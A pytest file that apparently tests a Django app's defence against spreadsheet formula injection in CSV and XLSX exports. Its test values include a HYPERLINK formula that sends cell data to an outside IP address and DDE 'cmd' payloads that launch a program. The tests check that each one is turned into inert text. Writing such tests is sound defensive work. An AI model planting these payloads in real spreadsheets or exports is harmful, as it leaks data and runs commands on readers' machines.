"""Finding 8: no cell gongkai writes to CSV or XLSX runs as a formula (one neutraliser:
gongkai/domain/spreadsheet_cells.py)."""
import csv
import io
from types import SimpleNamespace

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from gongkai.assessment.outputs import ranking_xlsx
from gongkai.domain.spreadsheet_cells import neutralise, text_cell
from gongkai.units import audit
from tests.conftest import PASSWORD

EVIL = '=HYPERLINK("http://203.0.113.1/x?"&A1,"点击查看")'


@pytest.mark.parametrize("value", [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "＝1+1", "  =1"])
def test_formula_starts_become_text(value):
    assert neutralise(value).startswith("'")


@pytest.mark.parametrize("value", ["城关街道", "2026-12-01", "", "a=b"])
def test_ordinary_text_is_unchanged(value):
    assert neutralise(value) == value


def test_numbers_stay_numbers():
    assert neutralise(-5) == -5 and neutralise(2.5) == 2.5 and text_cell(None) == ""


@pytest.mark.django_db
def test_audit_log_csv_export_writes_titles_as_text(client, street_admin):
    audit.record("item.publish", user=street_admin, unit=street_admin.unit, target_repr=EVIL)
    client.login(username=street_admin.username, password=PASSWORD)
    response = client.get(reverse("accounts:audit_export"))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [c for row in rows[1:] for c in row]
    assert "'" + EVIL in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)


def test_assessment_ranking_xlsx_neutralises_reasons_and_names():
    unit = SimpleNamespace(name="=cmd|'/C calc'!A0")
    card = SimpleNamespace(rank=1, unit=unit, scores=[], computed=90, adjustment_total=-2, total=88,
                           adjustments=[SimpleNamespace(points=-2, reason=EVIL)])
    scheme = SimpleNamespace(name="@考核", year=2026, indicators=[])
    book = load_workbook(io.BytesIO(ranking_xlsx(scheme, [card])))
    values = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert "'" + EVIL in values and "'=cmd|'/C calc'!A0" in values and "'@考核" in values
    assert -2 in values or -2.0 in values  # numbers stay numbers
    assert all(c.data_type != "f" for ws in book.worksheets for row in ws.iter_rows() for c in row)
